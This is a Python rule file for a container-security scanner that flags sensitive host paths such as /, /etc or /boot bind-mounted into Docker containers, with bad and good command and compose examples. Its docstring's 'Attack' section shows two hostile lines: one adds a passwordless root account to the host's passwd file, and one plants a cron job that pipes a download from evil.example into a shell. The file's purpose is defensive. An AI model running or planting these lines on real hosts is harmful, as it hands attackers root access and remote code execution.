"""Sensitive host path mounted.

A bind mount takes its files out of the container's walls. Writable, `/etc`, `/usr/bin`, `/boot` or a home folder are
places from which the host runs code as root, so a process that is root in the container is soon root outside. Read-only,
they still give away password hashes, keys and the layout of the host. `/` is all of it at once, with every socket.

## Attack
    echo 'attacker::0:0::/:/bin/sh' >> /host/etc/passwd                       # a root account without a password
    echo '* * * * * root curl https://evil.example/x | sh' > /host/etc/cron.d/x  # or a job that the host runs

## Bad command
    docker run -d -v /:/host -v /etc/acme/agent.yml:/agent.yml:ro acme/agent:3

## Good command
    docker run -d -v /var/log/acme:/logs:ro -v /etc/acme/agent.yml:/agent.yml:ro acme/agent:3

## Bad compose
    services:
      proxy:
        image: acme/proxy:1.9
        volumes:
          - /etc:/config
          - /lib/modules:/lib/modules

## Good compose
    services:
      proxy:
        image: acme/proxy:1.9
        volumes:
          - /etc/acme/proxy.yml:/config/proxy.yml:ro
          - state:/var/lib/proxy
    volumes:
      state:

## What may break
Paths the program reads and that are no longer there: mount those very files, read-only. Data it writes belongs in a named
volume. Agents that measure the host want `/proc` and `/sys`: give them read-only, to a container with no other power.

## References
- CIS Docker Benchmark 1.6, 5.6
- OWASP Docker Security Cheat Sheet, RULE #8
- https://docs.docker.com/engine/storage/bind-mounts/
"""

from __future__ import annotations

from collections.abc import Iterator

from scanner.finding import Confidence, Severity
from scanner.host_paths import Kind, exposures
from scanner.launch import Launch
from scanner.posture import ordinary_user
from scanner.rule import Fault, rule


@rule(severity=Severity.HIGH, cwe=668)
def check(launch: Launch) -> Iterator[Fault]:
    for mount, exposed, severity in exposures(launch, Kind.SYSTEM):
        message = f"mounts {mount.source} of the host{', read-only' if mount.read_only else ', writable'}: {exposed.what}"
        user = ordinary_user(launch) if mount.source == "/" else None
        if user is not None:
            message += f"; that it runs as user {user[0]} leaves the host's file modes as the only bound"
        related = (user[1],) if user is not None else ()
        yield Fault(mount.value, message, severity, Confidence.MEDIUM if exposed.guessed else None, related)
